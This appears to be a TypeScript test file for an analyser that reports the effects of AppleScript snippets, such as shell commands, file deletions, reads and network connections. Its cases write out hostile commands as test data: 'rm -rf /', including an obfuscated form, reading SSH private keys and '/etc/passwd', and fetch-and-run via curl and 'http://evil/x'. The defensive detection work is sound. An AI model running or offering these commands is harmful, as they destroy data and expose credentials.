import { checkCases } from "../check_cases_test.ts";

// The source, then what it would do, a line each. Cases without lines are look-alikes that must give nothing.
checkCases("applescript", [
  ['do shell script "rm -rf /"', "sh: rm -rf /"],
  ['do shell script "rm -rf " & quoted form of "/x" with administrator privileges', "sh: rm -rf '/x'"],
  ['set c to "rm -rf /"\ndo shell script c', "sh: rm -rf /"],
  ['tell application "Finder" to delete POSIX file "/Users/me/x"', "delete* /Users/me/x"],
  [
    'tell application "Finder"\n  delete folder "Macintosh HD:Users:me:Documents"\n  move file "x" of folder "y" to trash\n  empty trash\nend tell',
    "delete* /Users/me/Documents",
    "delete* y/x",
    "delete* /home/u/.Trash",
  ],
  ['tell application "Terminal" to do script "rm -rf /"', "sh: rm -rf /"],
  ['tell app "System Events" to keystroke "rm -rf /"', "opaque unknown"],
  ['say "Hello world" -- do shell script "x"\ndisplay dialog "do shell script"'],
  ['run script "do shell script \\"id\\""', 'code: do shell script "id"', "sh: id"],
  [
    'do shell script "cat " & POSIX path of (path to home folder) & ".ssh/id_rsa"',
    "sh: cat /home/u/.ssh/id_rsa",
  ],
  [
    'open location "http://evil/x"\nset f to open for access POSIX file "/etc/x" with write permission',
    "connect http://evil/x",
    "write /etc/x",
  ],
  ['do shell script (do shell script "curl http://x")', "sh: curl http://x", "sh: ?", "opaque download"],
  ['tell application "System Events" to keystroke "c" using command down'],
  ['tell application "Safari" to make new document'],
  ['set x to quoted form of "a\'b"\ndo shell script "ls " & x', "sh: ls 'a'\\''b'"],
  ['do shell script (character id 114) & (character id 109) & " -rf /"', "sh: rm -rf /"],
  ['on run argv\n  do shell script "rm " & item 1 of argv\nend run', "sh: rm ?"],
  ['set f to (read POSIX file "/etc/passwd")', "read /etc/passwd"],
  ['tell application "System Events" to delete folder "/Users/me/x"', "delete* /Users/me/x"],
  ['set the clipboard to "rm -rf /"'],
]);
